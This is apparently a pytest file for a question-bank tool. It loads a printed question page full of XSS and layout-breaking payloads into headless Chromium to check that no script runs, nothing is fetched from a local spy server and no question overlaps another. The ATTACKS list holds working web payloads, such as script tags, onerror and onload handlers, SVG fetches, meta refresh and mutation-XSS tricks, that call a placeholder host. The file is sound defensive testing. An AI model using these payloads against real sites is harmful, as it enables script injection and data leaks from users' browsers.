"""A page full of attacks in a real browser: nothing runs, is fetched, or covers its neighbours."""

import base64
import json
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import count, pairwise
from pathlib import Path
from typing import Any

import pytest

from qbank.domain.kinds import QuestionType, TextFormat
from qbank.domain.options import Choice
from qbank.domain.question import QuestionDocument
from qbank.domain.validation import checked
from qbank.formats.paper import Key, Paper
from qbank.formats.print_page import PrintedPage
from qbank.formats.print_text import Picture

_NAMES = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable", "chrome")
BROWSER = next((found for name in _NAMES if (found := shutil.which(name))), None)
pytestmark = [
    pytest.mark.skipif(BROWSER is None, reason="there is no Chromium or Chrome here"),
    pytest.mark.skipif(os.name == "nt", reason="the browser is spoken to through inherited descriptors"),
]
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
SHA = "ab" * 32
SPY = "HOST"
"""Stands in the attacks for a server that counts who calls it."""
SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
    " onload='fetch(\"HOST/o\")'>"
    "<script>fetch('HOST/s')</script><image href='HOST/i.png' xlink:href='HOST/x.png' width='9' height='9'/>"
    "<style>@import url(HOST/c.css);</style><foreignObject><img src='HOST/f.png'/></foreignObject></svg>"
)
ATTACKS = [
    "<script>fetch('HOST/1');document.title='run'</script>",
    "<script src='HOST/2.js'></script>",
    "<img src='HOST/3.png' onerror=\"document.title='run'\">",
    "<img src=x onerror=\"document.title='run';fetch('HOST/4')\">",
    "<svg onload=\"document.title='run'\"><script>document.title='run'</script></svg>",
    SVG,
    f"<img src=\"data:image/svg+xml,{SVG.replace('#', '%23')}\">",
    "<style>@import url('HOST/5.css'); p { display: none } body { background: url(HOST/6.png) }</style>",
    "<div style='position:fixed;inset:0;background:url(HOST/7.png);z-index:99'>covered</div>",
    "<link rel=stylesheet href='HOST/8.css'><link rel=prefetch href='HOST/9'>",
    "<meta http-equiv=refresh content='0;url=HOST/10'>",
    "<base href='HOST/'><img src='11.png'>",
    "<iframe src='HOST/12'></iframe><iframe srcdoc=\"<script>top.document.title='run'</script>\"></iframe>",
    "<object data='HOST/13'></object><embed src='HOST/14'>",
    "<form action='HOST/15'><input autofocus onfocus=\"document.title='run'\"><button>go</button></form>",
    "<video src='HOST/16.mp4' poster='HOST/17.png' autoplay></video><audio src='HOST/18.mp3'></audio>",
    "<a href=\"javascript:document.title='run'\" ping='HOST/19'>click</a>",
    "<details open ontoggle=\"document.title='run'\">x</details>",
    "</div></div></section></main></body></html><script>document.title='run'</script>",
    "</div></section><section class=question><h2>Question 99</h2>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=fetch(1)&gt;'>",
    "<math><mpadded voffset='-4000px' width='9999px'><mi>x</mi></mpadded><mspace width='99999px'/></math>",
    "<table><tr><td colspan=1000 width=99999>wide</td></tr></table>",
    "<img width=99999 height=99999 src='qbank://media/" + SHA + "' alt=big>",
    "x" * 5000,
    "<pre>" + "y" * 3000 + "</pre>",
    "<b><i>" * 2000 + "deep",
    "<div>" * 2000 + "deeper",
    "\u202eright to left " + "Z" + "\u0301" * 300,
    "<picture><source srcset='HOST/20.png'><img srcset='HOST/21.png 1x' src='HOST/22.png'></picture>",
    "<img src='//HOST/23.png'><img src='\\\\HOST\\24.png'><image src='HOST/25.png'>",
    "<input type=image src='HOST/26.png'><body background='HOST/27.png'><table background='HOST/28.png'>",
]  # fmt: skip


class Browser:
    """Chromium without a window, spoken to through two pipes: https://chromedevtools.github.io/devtools-protocol/."""

    def __init__(self, profile: Path) -> None:
        self.numbers = count(1)
        self.events: list[dict[str, Any]] = []
        theirs_in, self.to_browser = os.pipe()
        self.from_browser, theirs_out = os.pipe()
        sandbox = ["--no-sandbox"] if hasattr(os, "geteuid") and os.geteuid() == 0 else []
        words = [
            *(str(BROWSER), "--headless", "--remote-debugging-pipe", f"--user-data-dir={profile}", *sandbox),
            *(
                "--disable-gpu",
                "--disable-dev-shm-usage",
                "--no-first-run",
                "--disable-background-networking",
            ),
        ]

        def give_pipes() -> None:
            os.dup2(theirs_in, 103)
            os.dup2(theirs_out, 104)
            os.dup2(103, 3)
            os.dup2(104, 4)

        self.process = subprocess.Popen(
            words,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            preexec_fn=give_pipes,
            close_fds=False,
        )
        os.close(theirs_in)
        os.close(theirs_out)
        self.answers = os.fdopen(self.from_browser, "rb", buffering=0)
        self.buffer = b""
        self.session: str | None = None

    def ask(self, method: str, **parameters: Any) -> dict[str, Any]:
        """Send a command and wait for its answer; what happens meanwhile is kept in `events`."""
        number = next(self.numbers)
        message: dict[str, Any] = {"id": number, "method": method, "params": parameters}
        if self.session is not None:
            message["sessionId"] = self.session
        os.write(self.to_browser, json.dumps(message).encode() + b"\0")
        while (answer := self.next_message()).get("id") != number:
            self.events.append(answer)
        assert "error" not in answer, answer
        return dict(answer["result"])

    def wait_for(self, method: str) -> None:
        while not any(event.get("method") == method for event in self.events):
            self.events.append(self.next_message())

    def next_message(self) -> dict[str, Any]:
        while b"\0" not in self.buffer:
            piece = self.answers.read(1 << 16)
            assert piece, "the browser is gone"
            self.buffer += piece
        message, _, self.buffer = self.buffer.partition(b"\0")
        return dict(json.loads(message))

    def open(self, path: Path) -> None:
        target = self.ask("Target.createTarget", url="about:blank")["targetId"]
        self.session = self.ask("Target.attachToTarget", targetId=target, flatten=True)["sessionId"]
        for domain in ("Page", "Network", "Log", "Runtime"):
            self.ask(f"{domain}.enable")
        self.events.clear()
        self.ask("Page.navigate", url=path.as_uri())
        self.wait_for("Page.loadEventFired")

    def evaluate(self, expression: str) -> Any:
        return self.ask("Runtime.evaluate", expression=expression, returnByValue=True)["result"].get("value")

    def told(self, method: str) -> list[dict[str, Any]]:
        return [event["params"] for event in self.events if event.get("method") == method]

    def close(self) -> None:
        self.process.kill()
        self.process.wait()
        self.answers.close()
        os.close(self.to_browser)


@pytest.fixture(scope="module")
def visits() -> Iterator[tuple[str, list[str]]]:
    """A server that notes every call, and its address."""
    noted: list[str] = []

    class Spy(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            noted.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_HEAD = do_GET  # noqa: N815  # the names the server calls

        def log_message(self, format: str, *args: Any) -> None:
            """Say nothing on stderr."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Spy)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", noted
    server.shutdown()
    server.server_close()


def hostile(spy: str) -> Iterator[QuestionDocument]:
    for number, (attack, format) in enumerate(
        (attack.replace(SPY, spy), format) for attack in ATTACKS for format in ("html", "markdown", "moodle")
    ):
        yield checked(
            QuestionDocument(
                id=str(number),
                type=QuestionType.SINGLE_CHOICE,
                title=attack[:200],
                stem=f"before {attack}",
                format=TextFormat(format),
                options=[Choice(text=attack, fraction=1.0, feedback=attack), Choice(text="harmless")],
                explanation=attack,
                language=attack[:40],
            )
        )


@pytest.fixture(scope="module")
def opened(
    visits: tuple[str, list[str]], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Browser, PrintedPage]]:
    folder = tmp_path_factory.mktemp("browser")
    written = PrintedPage("Attacks", Paper(Key.END))
    pictures = {SHA: Picture("image/png", PNG)}
    questions = [written.question(each, None, pictures) for each in hostile(visits[0])]
    path = folder / "page.html"
    path.write_bytes(b"".join([written.begin(), *questions, *written.end()]))
    browser = Browser(folder / "profile")
    try:
        browser.open(path)
        yield browser, written
    finally:
        browser.close()


Opened = tuple[Browser, PrintedPage]


def test_nothing_is_fetched(opened: Opened, visits: tuple[str, list[str]]) -> None:
    browser, _ = opened
    asked = [told["request"]["url"] for told in browser.told("Network.requestWillBeSent")]
    assert [url for url in asked if not url.startswith("data:")] == [browser.evaluate("location.href")]
    assert visits[1] == []


def test_nothing_runs_and_nothing_is_complained_of(opened: Opened) -> None:
    browser, _ = opened
    assert browser.evaluate("document.title") == "Attacks"
    assert browser.told("Log.entryAdded") == []
    assert browser.told("Runtime.consoleAPICalled") == []
    assert browser.told("Runtime.exceptionThrown") == []
    assert browser.told("Page.javascriptDialogOpening") == []
    assert browser.evaluate("document.querySelectorAll('script, iframe, form, object, embed').length") == 0


def test_the_style_of_the_page_is_applied_in_spite_of_the_policy(opened: Opened) -> None:
    browser, _ = opened
    assert browser.evaluate("getComputedStyle(document.querySelector('.choices')).listStyleType") == "none"


def test_the_pictures_of_the_bank_are_shown(opened: Opened) -> None:
    browser, _ = opened
    shown = "[...document.images].filter(i => i.alt == 'big').every(i => i.complete && i.naturalWidth == 1)"
    assert browser.evaluate(shown) is True


def test_every_question_is_there_and_none_covers_another_or_leaves_the_page(opened: Opened) -> None:
    browser, written = opened
    assert (
        browser.evaluate("document.querySelectorAll('main > section.question').length") == written.questions
    )
    assert (
        browser.evaluate("document.querySelectorAll('main > section.key > section').length")
        == written.questions
    )
    boxes = browser.evaluate(
        "[...document.querySelectorAll('section.question, section.solution')]"
        ".map(s => s.getBoundingClientRect()).map(b => [b.top, b.bottom, b.left, b.right])"
    )
    width = browser.evaluate("document.documentElement.clientWidth")
    assert all(left >= 0 and right <= width for _, _, left, right in boxes)
    assert all(bottom <= top for (_, bottom, _, _), (top, _, _, _) in pairwise(boxes))
    assert browser.evaluate("document.documentElement.scrollWidth") <= width


def test_it_prints_with_the_key_on_a_page_of_its_own(opened: Opened) -> None:
    browser, _ = opened
    printed = base64.b64decode(browser.ask("Page.printToPDF", paperWidth=8.27, paperHeight=11.69)["data"])
    assert printed.startswith(b"%PDF-")
    browser.ask("Emulation.setEmulatedMedia", media="print")
    assert browser.evaluate("getComputedStyle(document.querySelector('.key')).breakBefore") == "page"
    assert browser.evaluate("getComputedStyle(document.querySelector('.question')).breakInside") == "avoid"
    assert browser.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
